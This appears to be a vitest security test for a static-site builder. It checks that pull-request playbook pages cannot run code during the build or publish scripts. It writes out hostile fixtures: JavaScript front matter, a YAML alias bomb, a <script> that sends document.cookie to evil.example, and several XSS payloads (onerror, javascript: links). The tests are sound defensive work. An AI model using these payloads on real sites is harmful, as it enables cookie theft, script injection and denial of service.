/**
 * A hostile playbook page from a pull request: the site build (the real `astro build` on the site
 * fixture) must never run its code, never expand a YAML bomb, and must stop with the file, line
 * and a fix instead of publishing raw `<script>`.
 */
import { existsSync } from 'node:fs';
import { rm, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildSite } from '../../src/site/serve.ts';
import { playbookPageProblems } from '../../src/site/playbook-page-problems.ts';
import { makeFixture, NOW, PROJECT, type Fixture } from './fixture.ts';

let fixture: Fixture | undefined;
afterAll(async () => {
  await fixture?.cleanup();
});

const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`)].join('\n');

describe('a hostile playbook page', () => {
  it('does not run code, and the build stops within seconds naming each page, line and fix', { timeout: 120_000 }, async () => {
    fixture = await makeFixture(false);
    const marker = join(fixture.root, 'code-ran.txt');
    const js = (name: string) => `---${name}\n{ title: require('fs').writeFileSync(${JSON.stringify(marker)}, '${name}') || 'Owned' }\n---\n\nHello.\n`;
    await writeFile(join(fixture.root, 'playbook', 'evil-js.md'), js('js'));
    await writeFile(join(fixture.root, 'playbook', 'evil-javascript.md'), js('javascript'));
    await writeFile(join(fixture.root, 'playbook', 'evil-script.md'), '---\ntitle: Contact\n---\n\nCall us.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n');
    await writeFile(join(fixture.root, 'playbook', 'evil-bomb.md'), `---\ntitle: Bomb\n${bomb}\n---\n\nBoom.\n`);
    const outDir = join(PROJECT, 'node_modules', '.cache', 'copydesk-site-test', basename(fixture.root));
    const built = await buildSite({
      projectRoot: PROJECT,
      outDir,
      env: { PATH: process.env.PATH, HOME: process.env.HOME, TMPDIR: process.env.TMPDIR, COPYDESK_ROOT: fixture.root, COPYDESK_NOW: NOW, COPYDESK_SITE_CACHE: join(fixture.root, '.astro-cache') },
    });
    await rm(outDir, { recursive: true, force: true });
    expect(existsSync(marker)).toBe(false);
    expect(built.ok).toBe(false);
    const output = built.ok ? '' : built.output;
    expect(output).toContain('playbook/evil-js.md:1:1  front-matter  the front-matter starts with `---js`');
    expect(output).toContain('playbook/evil-javascript.md:1:1  front-matter  the front-matter starts with `---javascript`');
    expect(output).toContain('playbook/evil-script.md:7:1  raw-html  raw `<script>` is not allowed in playbook pages');
    expect(output).toContain('playbook/evil-bomb.md:4:');
    expect(output).toContain('aliases are not allowed in playbook front matter');
    // Generous safety net only: the loader stops the build before any page is rendered.
    expect(built.ms).toBeLessThan(90_000);
  });
});

describe('which raw HTML a page may hold', () => {
  const problems = (body: string) => playbookPageProblems('playbook/p.md', `---\ntitle: P\n---\n\n${body}\n`).map((d) => `${d.line}:${d.column} ${d.ruleId}`);
  it('refuses what runs code, with its position', () => {
    expect(problems('<iframe src="https://evil.example"></iframe>')).toEqual(['5:1 raw-html']);
    expect(problems('Text <img src=x onerror="alert(1)"> more')).toEqual(['5:6 raw-html']);
    expect(problems('[click](javascript:alert(1))')).toEqual(['5:1 script-link']);
    expect(problems('[click][x]\n\n[x]: JaVaScRiPt:alert(1)')).toEqual(['7:1 script-link']);
    expect(problems('<a href="javascript:alert(1)">x</a>')).toEqual(['5:1 raw-html']);
  });
  it('allows showing code, ordinary HTML and links', () => {
    expect(problems('```html\n<script>alert(1)</script>\n```\n\nUse `<script>` tags carefully.')).toEqual([]);
    expect(problems('<details><summary>More</summary>\n\nText\n\n</details>\n\n[docs](https://example.com/on=1)')).toEqual([]);
  });
});
